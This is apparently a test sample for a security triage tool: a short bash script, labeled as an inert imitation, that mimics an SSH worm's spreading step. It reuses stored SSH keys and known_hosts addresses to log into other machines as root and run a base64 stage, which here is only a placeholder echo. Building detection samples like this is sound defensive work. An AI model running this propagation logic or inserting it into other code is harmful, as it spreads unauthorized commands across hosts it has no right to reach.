#!/bin/bash
# triage-expect: triage_ssh_worm_spreader
# inert imitation of a worm's spreading step (the payload is a placeholder, hosts come from the box itself)
stage="ZWNobyBwbGFjZWhvbGRlcgo="
for home in /root /home/*; do
  [ -f "$home/.ssh/known_hosts" ] || continue
  ls "$home"/.ssh/id_* >/dev/null 2>&1 || continue
  for host in $(grep -oE "\b([0-9]{1,3}\.){3}[0-9]{1,3}\b" "$home/.ssh/known_hosts" | sort -u); do
    ssh -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=5 root@"$host" "echo $stage | base64 -d | bash" &
  done
done
